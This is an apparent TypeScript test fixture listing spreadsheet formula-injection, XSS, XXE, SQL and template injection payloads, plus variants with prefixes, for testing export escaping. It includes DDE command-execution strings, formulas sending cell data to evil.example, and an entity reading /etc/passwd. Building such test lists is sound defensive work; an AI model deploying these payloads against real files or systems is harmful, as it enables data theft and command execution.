/** Texts that a spreadsheet would run, a page would execute or XML would stumble over: one hundred and more. */
const FORMULAS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd","/C calc","x")',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '-1+1',
  '-cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!D2',
  '@SUM(1+1)',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '|cmd',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=',
  '+',
  '-',
  '@',
  "=1+1'",
  '="a"&CHAR(10)',
  '=A1:A9',
  '=#REF!',
];

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">点我</a>',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '</sheetData><script/>',
  ']]><f>1+1</f><![CDATA[',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '&lt;b&gt;',
  '&#61;1+1',
  '_x003D_1+1',
  '_x0000_',
  '<f>1+1</f>',
  '"; DROP TABLE x; --',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '%00=1+1',
  '\ufeff=1+1',
];

/** Each of them also in the middle and behind a space, where nothing may be added to it. */
export const PAYLOADS: readonly string[] = [
  ...FORMULAS,
  ...SCRIPTS,
  ...FORMULAS.map((text) => `一村${text}`),
  ...SCRIPTS.map((text) => `一村${text}`),
  ...FORMULAS.map((text) => ` ${text}`),
];

/** Whether a spreadsheet would begin to compute. */
export const isDangerous = (text: string): boolean => FORMULAS.includes(text);
